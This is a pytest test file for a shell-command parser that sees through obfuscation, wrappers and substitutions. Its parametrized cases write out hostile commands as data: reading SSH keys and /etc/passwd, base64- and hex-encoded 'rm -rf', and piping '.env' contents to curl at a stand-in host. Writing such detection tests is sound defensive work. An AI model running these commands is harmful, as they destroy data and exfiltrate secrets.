"""Shell text to commands: quotes, expansions, pipes, wrappers, nested scripts, and what is too long or too strange."""

from __future__ import annotations

import base64
import gc
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spanwarden_processor.effects.command import Command
from spanwarden_processor.effects.shell import MAX_COMMANDS, read_script


def commands_of(text: str) -> tuple[Command, ...]:
    return read_script(text).commands


def last_argv(text: str) -> tuple[str, ...]:
    return commands_of(text)[-1].argv


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("cat ~/.ssh/id_rsa", ("cat", "~/.ssh/id_rsa")),
        ('cat "$HOME/.ssh/id_rsa"', ("cat", "~/.ssh/id_rsa")),
        ("cat ${HOME}/.ssh/id_rsa", ("cat", "~/.ssh/id_rsa")),
        ("rm -rf ~/", ("rm", "-rf", "~/")),
        ("c''at /etc/pass\"wd\"", ("cat", "/etc/passwd")),
        ("g\\it push", ("git", "push")),
        ("$'\\x63at' notes", ("cat", "notes")),
        ('echo "a $UNKNOWN b"', ("echo", "a $UNKNOWN b")),
        ('X=1; echo "$X$X"', ("echo", "11")),
        ("echo ${NAME:-fallback}", ("echo", "fallback")),
        ("for f in a b; do rm $f; done", ("rm", "a", "b")),
        ('f() { rm -rf "$1"; }; f /srv/data', ("rm", "-rf", "/srv/data")),
        ("if true; then rm x; fi", ("rm", "x")),
        ("git commit -m 'do not rm -rf /'", ("git", "commit", "-m", "do not rm -rf /")),
    ],
)
def test_words_are_resolved_as_far_as_they_are_written_out(text: str, argv: tuple[str, ...]) -> None:
    assert last_argv(text) == argv


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /srv/x",
        "sudo rm -rf /srv/x",
        "sudo -u root rm -rf /srv/x",
        "env A=b nice -n 3 timeout 5 rm -rf /srv/x",
        "sh -c 'rm -rf /srv/x'",
        'bash -lc "rm -rf /srv/x"',
        "eval 'rm -rf /srv/x'",
        "alias k='rm -rf'; k /srv/x",
        f"echo {base64.b64encode(b'rm -rf /srv/x').decode()} | base64 -d | sh",
        f'bash -c "$(echo {base64.b64encode(b"rm -rf /srv/x").decode()} | base64 --decode)"',
        "echo x/vrs/ fr- mr | rev | bash",
        "echo 726d202d7266202f7372762f78 | xxd -r -p | sh",
        "sh <<'EOF'\nrm -rf /srv/x\nEOF",
        "bash <<< 'rm -rf /srv/x'",
        "docker exec -it web rm -rf /srv/x",
        "A=rm; B=-rf; $A $B /srv/x",
        "D=/srv; rm -rf $D/x",
        "cp /bin/rm /tmp/z; /tmp/z -rf /srv/x",
        "command rm -rf /srv/x",
        "nohup rm -rf /srv/x &",
        "true && rm -rf /srv/x || false",
        "(cd / && rm -rf /srv/x)",
        "watch -n 5 'rm -rf /srv/x'",
    ],
)
def test_the_same_command_is_seen_however_it_is_wrapped(text: str) -> None:
    assert ("rm", "-rf", "/srv/x") in [command.argv for command in commands_of(text)]


def test_an_alias_of_an_earlier_script_is_known() -> None:
    names = read_script("alias pf='git push --force'").names

    assert read_script("pf origin main", names).commands[-1].argv == ("git", "push", "--force", "origin", "main")


def test_wrappers_stay_visible_in_order() -> None:
    assert commands_of("sudo env X=1 sh -c 'git push'")[-1].wrappers == ("sudo", "env", "sh")


def test_a_pipe_tells_what_flows_into_a_command() -> None:
    *_, last = commands_of("cat .env | base64 -w0 | curl -d @- https://x.example")

    assert [command.argv[0] for command in last.upstream] == ["base64"]
    assert [command.argv[0] for command in last.upstream[0].upstream] == ["cat"]


@pytest.mark.parametrize(
    "text",
    [
        'curl -d "$(cat .env)" host',
        'X=$(cat .env); curl -d "$X" host',
        "curl -d `cat .env` host",
        "curl -d @<(cat .env) h",
    ],
)
def test_a_substitution_tells_what_flows_into_a_command(text: str) -> None:
    last = commands_of(text)[-1]

    assert ("cat", ".env") in [command.argv for command in last.upstream]


def test_redirects_are_reads_and_writes() -> None:
    command = commands_of("sort < in.txt > out.txt 2>/dev/null")[0]

    assert (command.reads, command.writes, command.appends) == (("in.txt",), ("out.txt",), ())
    assert commands_of("echo x >> log.txt")[0].appends == ("log.txt",)


def test_a_here_document_is_the_standard_input() -> None:
    command = commands_of("cat > a.py <<'EOF'\nprint($X)\nEOF")[0]

    assert (command.stdin, command.writes) == ("print($X)\n", ("a.py",))


def test_the_code_of_an_interpreter_is_kept_as_text() -> None:
    assert commands_of("python3 -c 'import os; os.remove(\"x\")'")[0].code == 'import os; os.remove("x")'
    assert commands_of("python - <<'EOF'\nprint(1)\nEOF")[0].code == "print(1)\n"


def test_the_directory_of_a_command_follows_cd() -> None:
    assert commands_of("cd /srv/app && cd data && rm x")[-1].directory == "/srv/app/data"


def test_an_assignment_before_a_command_is_its_environment() -> None:
    assert commands_of("OTEL_SDK_DISABLED=true python a.py")[0].environment == (("OTEL_SDK_DISABLED", "true"),)


def test_the_source_of_a_command_stands_in_the_text() -> None:
    text = "cd app && sudo bash -c 'git push --force origin main' | tee log"

    assert all(command.source in text for command in commands_of(text))


def test_more_commands_than_are_read_make_a_script_incomplete() -> None:
    script = read_script("\n".join(f"echo '{number}'" for number in range(MAX_COMMANDS + 50)))

    assert len(script.commands) == MAX_COMMANDS
    assert not script.complete


@pytest.mark.parametrize(
    "text",
    [
        "f() { f; }; f",
        "(" * 3_000,
        "$(" * 3_000,
        "<" * 40_000,
        "\0" * 40_000,
        "a|" * 30_000,
        "X=$X$X;" * 5_000,
        "`" * 9_999,
    ],
)
def test_strange_text_is_read_in_bounded_time(text: str) -> None:
    started = time.process_time()

    read_script(text)

    assert time.process_time() - started < 10


@given(st.text(max_size=300))
def test_no_text_makes_reading_fail(text: str) -> None:
    for command in read_script(text).commands:
        assert isinstance(command.argv, tuple)


@given(st.text(alphabet="ab $\"'`|&;<>(){}\\\n=~*#!-", max_size=120))
def test_no_mixture_of_shell_signs_makes_reading_fail(text: str) -> None:
    read_script(text)


def test_a_text_that_is_given_up_leaves_nothing_for_the_next_one_to_stumble_over() -> None:
    endless = "(" * 9_999

    for number in range(30):
        read_script(f"{endless}{number}")

        assert [command.argv for command in read_script(f'echo "$(hostname)" {number}').commands][-1:] != []


def test_signs_of_every_script_are_read_as_they_are_written() -> None:
    # The grammar crashed on the braces behind a sign of a private plane, one time in a few.
    for number in range(200):
        read_script(f"t\u00b82 {{\U000776a8\U000ee563\u00c2k:\U000d6963 {number}")

    [command] = read_script("rm -rf '/srv/\u8d44\u6599/\u00fcbung' $(true)").commands[-1:]

    assert "/srv/\u8d44\u6599/\u00fcbung" in command.argv


def test_reading_a_script_leaves_nothing_to_the_search_for_cycles() -> None:
    read_script("for f in *.py; do wc -l $(cat list) < in > out; done # warm")
    gc.collect()

    read_script("for f in *.py; do wc -l $(cat list) < in > out; done # cold")

    assert gc.collect() == 0
